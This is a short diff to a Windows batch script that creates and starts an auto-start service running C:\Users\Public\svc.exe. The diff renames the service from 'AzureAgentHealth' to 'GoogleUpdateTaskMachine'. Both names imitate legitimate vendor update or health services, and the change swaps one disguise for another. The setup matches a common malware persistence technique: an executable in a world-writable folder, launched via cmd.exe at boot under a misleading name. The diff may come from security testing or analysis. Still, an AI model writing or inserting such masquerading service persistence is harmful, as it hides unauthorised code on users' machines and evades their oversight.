@@ -1,3 +1,3 @@
-REM run 5286 v4
-sc create AzureAgentHealth binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-sc start AzureAgentHealth
+REM provision 9191 v4
+sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+sc start GoogleUpdateTaskMachine
